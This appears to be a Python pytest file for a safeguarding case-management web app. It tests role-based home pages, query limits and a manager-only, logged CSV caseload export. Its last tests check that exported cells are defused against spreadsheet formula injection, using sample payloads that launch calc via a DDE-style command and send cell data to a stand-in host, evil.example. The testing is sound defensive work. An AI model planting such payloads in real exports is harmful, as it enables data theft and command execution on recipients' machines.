"""Home pages per role, and the manager's caseload export."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from referrals.models import ReferralStatus, RiskLevel
from safeguarding.models import AccessEvent
from tests import factories as f


def test_practitioner_sees_own_cases_with_review_tags_and_own_referrals(client, cast, owned_case):
    today = timezone.localdate()
    overdue = f.CaseFactory(lead_agency=cast.owner, key_worker=cast.user("owner", "practitioner"),
                            next_review_due=today - dt.timedelta(days=2))
    soon = f.CaseFactory(lead_agency=cast.owner, key_worker=cast.user("owner", "practitioner"),
                         next_review_due=today + dt.timedelta(days=3))
    referral = f.ReferralFactory(referring_agency=cast.owner, referred_by=cast.user("owner", "practitioner"),
                                 status=ReferralStatus.SIGNPOSTED, decided_at=timezone.now(),
                                 signposted_to="Youth club")
    client.force_login(cast.user("owner", "practitioner"))
    body = client.get(reverse("home")).content.decode()
    assert "My cases (3)" in body
    assert owned_case.reference in body and overdue.reference in body and soon.reference in body
    assert "Overdue" in body and "Due soon" in body
    assert referral.reference in body and "Signposted to Youth club" in body
    assert "Screening queue" not in body and "Caseload by key worker" not in body


def test_practitioner_does_not_see_colleagues_referrals_in_my_referrals(client, cast):
    colleague = f.make_member(cast.owner, "practitioner", username="colleague")
    other = f.ReferralFactory(referring_agency=cast.owner, referred_by=colleague)
    client.force_login(cast.user("owner", "practitioner"))
    assert other.reference not in client.get(reverse("home")).content.decode()


def test_hub_screener_sees_queue_by_risk_then_deadline_with_working_time_left(client, cast):
    now = timezone.now()
    green = f.ReferralFactory(risk_level=RiskLevel.GREEN, decision_due_at=now + dt.timedelta(hours=1))
    red_late = f.ReferralFactory(risk_level=RiskLevel.RED, decision_due_at=now + dt.timedelta(hours=5))
    red_soon = f.ReferralFactory(risk_level=RiskLevel.RED, received_at=now - dt.timedelta(days=1),
                                decision_due_at=now - dt.timedelta(hours=1))
    decided = f.ReferralFactory(status=ReferralStatus.NO_FURTHER_ACTION, decided_at=now, decision_reason="x")
    client.force_login(cast.user("hub", "hub_screener"))
    body = client.get(reverse("home")).content.decode()
    positions = [body.index(r.reference) for r in (red_soon, red_late, green)]
    assert positions == sorted(positions)
    assert decided.reference not in body
    assert "Working time left" in body
    assert "overdue by" in body or "hours" in body


@pytest.mark.parametrize("agency_key", ["owner", "referrer", "outsider"])
def test_only_the_hubs_screeners_have_a_queue(client, cast, agency_key):
    referral = f.ReferralFactory()
    client.force_login(cast.user(agency_key, "hub_screener"))
    body = client.get(reverse("home")).content.decode()
    assert "Screening queue" not in body and referral.reference not in body


def test_manager_sees_caseload_per_key_worker_late_referrals_quiet_cases_and_chart(client, cast, owned_case):
    now = timezone.now()
    f.CaseFactory(lead_agency=cast.owner, key_worker=cast.user("owner", "practitioner"), risk_level=RiskLevel.RED,
                  next_review_due=timezone.localdate() - dt.timedelta(days=1), opened_at=now - dt.timedelta(days=90))
    f.CaseFactory(lead_agency=cast.outsider, key_worker=cast.user("outsider", "practitioner"))
    late = f.ReferralFactory(referring_agency=cast.owner, received_at=now - dt.timedelta(days=2),
                            decision_due_at=now - dt.timedelta(hours=3))
    f.ReferralFactory(referring_agency=cast.owner, status=ReferralStatus.ACCEPTED, decided_at=now, case=owned_case)
    client.force_login(cast.user("owner", "manager"))
    response = client.get(reverse("home"))
    body = response.content.decode()
    loads = {load.name: load for load in response.context["loads"]}
    worker = cast.user("owner", "practitioner")
    load = loads[worker.get_full_name()]
    assert (load.open_cases, load.high_risk, load.overdue_reviews) == (2, 1, 1)
    assert sum(l.open_cases for l in loads.values()) == 2  # the outsider's case is not counted
    assert late.reference in body
    assert len(response.context["quiet_cases"]) == 1
    assert "<svg" in body and "Referrals and outcomes by month" in body
    this_month = response.context["figures"][-1]
    assert (this_month.received, this_month.accepted, this_month.open) == (2, 1, 1)


def test_home_makes_a_fixed_number_of_queries(client, cast, django_assert_max_num_queries):
    for _ in range(15):
        f.CaseFactory(lead_agency=cast.owner, key_worker=cast.user("owner", "manager"))
        f.ReferralFactory(referring_agency=cast.owner)
    for role in ("manager", "practitioner"):
        client.force_login(cast.user("owner", role))
        with django_assert_max_num_queries(40):
            assert client.get(reverse("home")).status_code == 200
    client.force_login(cast.user("hub", "hub_screener"))
    with django_assert_max_num_queries(40):
        assert client.get(reverse("home")).status_code == 200


def test_manager_exports_caseload_as_csv_and_it_is_logged(client, cast, owned_case):
    other = f.CaseFactory(lead_agency=cast.outsider)
    client.force_login(cast.user("owner", "manager"))
    response = client.get(reverse("caseload-export"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = _streamed(response)
    assert owned_case.reference in body and other.reference not in body
    event = AccessEvent.objects.get(action="export", user=cast.user("owner", "manager"))
    assert event.detail["ids"] == [owned_case.pk]


@pytest.mark.parametrize("role", ["practitioner", "hub_screener", "agency_admin", "dpo"])
def test_only_managers_export(client, cast, owned_case, role):
    client.force_login(cast.user("owner", role))
    assert client.get(reverse("caseload-export")).status_code == 403


def _streamed(response) -> str:
    assert response.streaming, "the export streams its rows"
    return b"".join(response.streaming_content).decode()


def test_export_defuses_spreadsheet_formulas(client, cast):
    f.CaseFactory(lead_agency=cast.owner, young_person__given_name="=HYPERLINK(1)", young_person__family_name="X")
    client.force_login(cast.user("owner", "manager"))
    assert "'=HYPERLINK" in _streamed(client.get(reverse("caseload-export")))


# Every character a spreadsheet may read as the start of a formula.
FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r", "\uff1d"]


@pytest.mark.parametrize("lead", FORMULA_LEADS, ids=repr)
def test_every_cell_starting_a_formula_is_defused(client, cast, lead):
    worker = cast.user("owner", "practitioner")
    worker.first_name, worker.last_name = f"{lead}cmd|' /C calc'!A0", "Smith"
    worker.save()
    case = f.CaseFactory(
        lead_agency=cast.owner, key_worker=worker,
        young_person__given_name=f"{lead}HYPERLINK(\"http://evil.example/?\"&A1)", young_person__family_name="X",
        young_person__preferred_name="",
    )
    client.force_login(cast.user("owner", "manager"))
    rows = list(csv.reader(io.StringIO(_streamed(client.get(reverse("caseload-export"))), newline="")))
    (row,) = [r for r in rows if r[0] == case.reference]
    (person,) = [cell for cell in row if "HYPERLINK" in cell]
    (key_worker,) = [cell for cell in row if "calc" in cell]
    assert person.startswith("'" + lead), row
    # Django's full name drops surrounding white space (a leading tab or
    # carriage return) itself; anything else is defused.
    assert key_worker.startswith("'" + lead) or (lead.isspace() and key_worker.startswith("cmd")), row
    # No cell of the whole file starts a formula.
    assert not [cell for r in rows for cell in r if cell[:1] in "=+-@\t\r\uff1d"]


def test_the_export_streams_every_case_once_in_order_a_chunk_at_a_time(client, cast, monkeypatch):
    from web.views import home

    monkeypatch.setattr(home, "EXPORT_CHUNK", 3)
    cases = [f.CaseFactory(lead_agency=cast.owner) for _ in range(8)]
    f.CaseFactory(lead_agency=cast.outsider)
    client.force_login(cast.user("owner", "manager"))
    response = client.get(reverse("caseload-export"))
    assert not hasattr(response, "content")  # a StreamingHttpResponse: no body held whole
    chunks = list(response.streaming_content)
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode(), newline="")))
    assert rows[0][0] == "Case" and len(chunks) == len(rows)  # one line per chunk sent
    assert [r[0] for r in rows[1:]] == sorted(c.reference for c in cases)
    event = AccessEvent.objects.get(action="export", user=cast.user("owner", "manager"))
    assert sorted(event.detail["ids"]) == sorted(c.pk for c in cases)


def test_superuser_home_shows_nothing(client, cast, owned_case):
    client.force_login(cast.superuser)
    body = client.get(reverse("home")).content.decode()
    assert owned_case.reference not in body
    assert client.get(reverse("caseload-export")).status_code == 403
